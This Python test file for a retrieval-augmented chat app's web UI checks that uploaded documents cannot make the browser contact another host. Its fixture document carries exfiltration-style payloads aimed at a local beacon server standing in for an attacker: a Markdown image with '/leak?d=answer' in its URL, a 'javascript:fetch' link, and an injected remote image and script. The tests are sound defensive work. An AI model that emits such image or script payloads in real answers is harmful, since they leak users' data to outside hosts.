"""A document must not make the reader's browser talk to anyone else (issue #14, item 3).

A Markdown image in a document is echoed into the answer; rendered, it would load from its
host with no click and could carry data out in its URL. A beacon server on another port
of this machine stands in for that host and records every request it gets: after a
document with a remote image and a `javascript:` link is uploaded and asked about, it must
have seen none. The page's Content-Security-Policy is checked the same way: an image
forced into the page from outside our rendering still does not load.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from rag.backend import Backend
from rag.providers.offline import OfflineProvider
from rag.settings import Settings
from rag.store import chroma_client
from tests.ui.conftest import Shots
from tests.ui.test_app import free_port
from tests.ui.test_browser import ask, open_page, open_tab, watch_answer
from ui.app import build_app, launch

pytestmark = [pytest.mark.browser, pytest.mark.slow]


class Beacon:
    """An HTTP server on loopback that answers every GET with a 1-pixel GIF and remembers it."""

    PIXEL = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c000000000100010000020144003b")

    def __init__(self) -> None:
        self.paths: list[str] = []
        beacon = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                beacon.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", str(len(beacon.PIXEL)))
                self.end_headers()
                self.wfile.write(beacon.PIXEL)

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def beacon() -> Iterator[Beacon]:
    server = Beacon()
    yield server
    server.close()


@pytest.fixture
def fresh_app(tmp_path: Path) -> Iterator[str]:
    settings = Settings(data_dir=tmp_path / "data", api_key=None, tier="unlimited")
    chroma_client(settings).heartbeat()  # a fresh data dir's first clients race (issue #12)
    demo = build_app(settings, Backend.build(settings, OfflineProvider()))
    port = free_port()
    launch(demo, settings, "127.0.0.1", port)
    yield f"http://127.0.0.1:{port}"
    demo.close()


def tracking_document(beacon: Beacon) -> str:
    return (
        "# Parking\n\n"
        f"The visitor garage opens at 6 am ![garage]({beacon.url}/leak?d=answer) and closes at 11 pm.\n"
        f"Visitor parking rules are [in the guide](javascript:fetch('{beacon.url}/js')) for everyone.\n"
        f"The garage map is at [the map]({beacon.url}/map) on the intranet.\n"
        f"![logo][ref] The garage is on level minus two.\n\n[ref]: {beacon.url}/ref\n"
    )


def test_a_documents_remote_image_and_script_link_make_no_request(
    browser: Browser, fresh_app: str, beacon: Beacon, tmp_path: Path, shots: Shots
) -> None:
    url = fresh_app
    document = tmp_path / "parking.md"
    document.write_text(tracking_document(beacon))
    page = open_page(browser, url)
    open_tab(page, "Documents")
    page.locator("#upload input[type=file]").set_input_files(str(document))
    page.locator("#upload-status", has_text="parking.md: added").wait_for()

    ask(page, "When does the visitor garage open, where are the parking rules and the map?")
    answer = watch_answer(page, 1)[-1]
    page.wait_for_timeout(1_000)  # time for any image the answer would load
    assert beacon.paths == []
    assert "6 am" in answer and "/leak?d=answer" in answer  # the image is shown as text
    open_tab(page, "Sources")
    page.locator("#sources button.src", has_text="parking.md").first.click()
    page.wait_for_function("() => document.querySelector('#viewer').innerText.includes('/leak?d=answer')")
    page.wait_for_timeout(1_000)
    shots(page, "remote-content-as-text")

    assert page.locator("#chat img, #viewer img, #sources img").count() == 0
    links = page.locator("#chat a, #viewer a, #sources a")
    for n in range(links.count()):
        href = links.nth(n).get_attribute("href") or ""
        rel = (links.nth(n).get_attribute("rel") or "").split()
        assert href.startswith(("http://", "https://", "mailto:")), href
        assert {"noopener", "noreferrer"} <= set(rel), (href, rel)
    assert beacon.paths == []


def test_the_pages_policy_forbids_remote_images_and_scripts(
    browser: Browser, fresh_app: str, beacon: Beacon
) -> None:
    url = fresh_app
    page = open_page(browser, url)
    policy = page.evaluate("async () => (await fetch('/')).headers.get('content-security-policy')")
    assert policy and "img-src 'self'" in policy and "script-src 'self'" in policy, policy
    page.evaluate(
        """url => {
            const img = document.createElement('img');
            img.src = url + '/forced.gif';
            document.body.append(img);
            const script = document.createElement('script');
            script.src = url + '/forced.js';
            document.body.append(script);
        }""",
        beacon.url,
    )
    page.wait_for_timeout(1_500)
    assert beacon.paths == []
